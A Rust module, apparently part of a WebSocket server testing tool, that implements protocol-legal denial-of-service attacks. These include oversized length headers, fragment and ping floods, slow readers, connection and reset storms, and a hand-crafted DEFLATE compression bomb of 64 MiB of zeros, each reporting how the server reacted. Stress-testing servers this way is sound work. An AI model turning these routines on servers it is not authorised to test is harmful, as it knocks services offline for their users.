//! Attacks that keep every rule, and cost the server more than they cost the attacker.

use std::io::Write;
use std::net::TcpStream;
use std::time::Instant;

use crate::frames::{BINARY, CLOSE, FIN, PING, PONG, TEXT, frame, header, open};
use crate::peer::{Heard, Peer, Target, not_tried};
use crate::report::{Attack, Did, Outcome, Rule, Run};

/// What a compression bomb becomes.
const BOMB_BYTES: usize = 64 << 20;

pub(crate) const ATTACKS: &[Attack] = &[
    attack("huge-length", "a frame that announces 1 TiB", Rule::Wise, |target| {
        let Some(mut peer) = open(target, "") else { return not_tried() };
        peer.say(&header(FIN | BINARY, 1 << 40));
        let did = peer.reaction(None);
        peer.outcome(did, String::new())
    }),
    attack(
        "announced-never-sent",
        "messages of 1 MiB of which a byte comes",
        Rule::Live,
        announced,
    ),
    attack("fragment-flood", "fragments of a byte, without end", Rule::Wise, |target| {
        flood(target, &frame(TEXT, b"x"), &frame(0, b"x"))
    }),
    attack("empty-continuations", "fragments of nothing, without end", Rule::Wise, |target| {
        flood(target, &frame(TEXT, b""), &frame(0, b""))
    }),
    attack("slow-message", "a message that goes on and on", Rule::Wise, slow_message),
    attack("ping-flood", "pings whose pongs are not read", Rule::Wise, |target| {
        flood(target, b"", &frame(FIN | PING, &[7; 125]))
    }),
    attack("slow-reader", "messages whose echoes are not read", Rule::Wise, |target| {
        flood(target, b"", &frame(FIN | BINARY, &[5; 60_000]))
    }),
    attack("compression-bomb", "64 MiB of zeros, compressed", Rule::Wise, bomb),
    attack("half-open", "a session that says nothing", Rule::Wise, |target| {
        let Some(mut peer) = open(target, "") else { return not_tried() };
        let did = peer.reaction(Some(PING));
        let pinged = did == Did::Took;
        let did = if pinged { Did::Waits } else { did };
        peer.outcome(did, if pinged { "it pings" } else { "" }.to_owned())
    }),
    attack("connect-storm", "connections that say nothing", Rule::Live, |target| {
        storm(target, false, false)
    }),
    attack("reset-storm", "sessions that end with a reset", Rule::Live, |target| {
        storm(target, true, true)
    }),
    attack("many-sessions", "sessions that stay", Rule::Live, |target| storm(target, true, false)),
];

const fn attack(
    name: &'static str,
    about: &'static str,
    rule: Rule,
    run: fn(&Target) -> Outcome,
) -> Attack {
    Attack { name, about, rule, run: Run::Do(run) }
}

/// Repeats a frame in a session and reads nothing.
fn flood(target: &Target, first: &[u8], again: &[u8]) -> Outcome {
    let Some(mut peer) = open(target, "") else { return not_tried() };
    peer.say(first);
    let (did, sent) = peer.flood(again);
    // Who closes may read on for a while, so that its close frame is not lost.
    let did = match did {
        Did::Took | Did::Ended => closed(&mut peer).unwrap_or(did),
        did => did,
    };
    peer.outcome(did, format!("after {sent} bytes"))
}

/// The close frame among what came, if there is one.
fn closed(peer: &mut Peer) -> Option<Did> {
    while peer.hear() == Heard::Bytes {}
    while let Some((opcode, payload)) = peer.frame() {
        if opcode == CLOSE {
            let code = payload.first_chunk::<2>().map(|code| u16::from_be_bytes(*code));
            return Some(Did::Closed(code));
        }
    }
    None
}

fn announced(target: &Target) -> Outcome {
    let began = Instant::now();
    let mut bytes = header(FIN | BINARY, 1 << 20);
    bytes.push(0);
    let mut peers: Vec<_> = (0..target.connections).map_while(|_| open(target, "")).collect();
    if peers.is_empty() {
        return not_tried();
    }
    peers.iter_mut().for_each(|peer| {
        peer.say(&bytes);
    });
    let after = began.elapsed();
    let is_served = crate::frames::is_served(target);
    let did = if is_served { Did::Waits } else { Did::Ended };
    Outcome { did, after, note: format!("{} sessions", peers.len()) }
}

fn slow_message(target: &Target) -> Outcome {
    let Some(mut peer) = open(target, "") else { return not_tried() };
    peer.say(&frame(TEXT, b"begun"));
    while !peer.is_over() {
        if peer.try_say(&frame(0, b"x")).is_none() || peer.hear() == Heard::End {
            let did = closed(&mut peer).unwrap_or(Did::Ended);
            return peer.outcome(did, String::new());
        }
    }
    peer.outcome(Did::Waits, String::new())
}

fn bomb(target: &Target) -> Outcome {
    let offer = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
    let Some(mut peer) = Peer::connect(target) else { return not_tried() };
    peer.say(target.handshake(offer).as_bytes());
    let head = peer.head().unwrap_or_default().to_ascii_lowercase();
    if !head.contains("permessage-deflate") {
        return peer.outcome(Did::NotSpoken, "no permessage-deflate".to_owned());
    }
    let payload = deflated_zeros(BOMB_BYTES);
    peer.say(&frame(FIN | 0x40 | BINARY, &payload));
    peer.say(&frame(FIN | PING, b"taken?"));
    let did = peer.reaction(Some(PONG));
    peer.outcome(did, format!("{} bytes", payload.len()))
}

/// A DEFLATE stream that becomes zeros, without the four bytes that permessage-deflate leaves out.
/// Made by hand: a library would be one more thing to build.
fn deflated_zeros(count: usize) -> Vec<u8> {
    let (mut bytes, mut bit) = (Vec::new(), 0_u32);
    let mut put = |value: u32, bits: u32| {
        for at in 0..bits {
            if bit.is_multiple_of(8) {
                bytes.push(0);
            }
            if value >> at & 1 == 1 {
                let last = bytes.len() - 1;
                bytes[last] |= 1 << (bit % 8);
            }
            bit += 1;
        }
    };
    put(0, 1); // not the last block
    put(1, 2); // with fixed codes
    put(0b0000_1100, 8); // a zero: 00110000, its first bit first
    for _ in 0..count / 258 {
        put(0b1010_0011, 8); // 258 bytes: 11000101
        put(0, 5); // of one byte ago
    }
    put(0, 7); // the end of the block
    put(0, 3); // a stored block follows, whose length is left out
    bytes
}

fn storm(target: &Target, handshakes: bool, resets: bool) -> Outcome {
    let began = Instant::now();
    let (mut kept, mut made) = (Vec::new(), 0);
    for _ in 0..target.connections {
        let Ok(mut stream) = TcpStream::connect_timeout(&target.address, target.patience) else {
            break;
        };
        if handshakes {
            let _ = stream.write_all(target.handshake("").as_bytes());
        }
        // What is not read when a connection is closed makes it a reset.
        if resets && kept.len() == 16 {
            kept.clear();
        }
        kept.push(stream);
        made += 1;
        if began.elapsed() > target.patience {
            break;
        }
    }
    if made == 0 {
        return not_tried();
    }
    let (after, count) = (began.elapsed(), kept.len());
    let is_served = crate::frames::is_served(target);
    let did = if is_served { Did::Took } else { Did::Ended };
    Outcome { did, after, note: if resets { String::new() } else { format!("{count} at once") } }
}
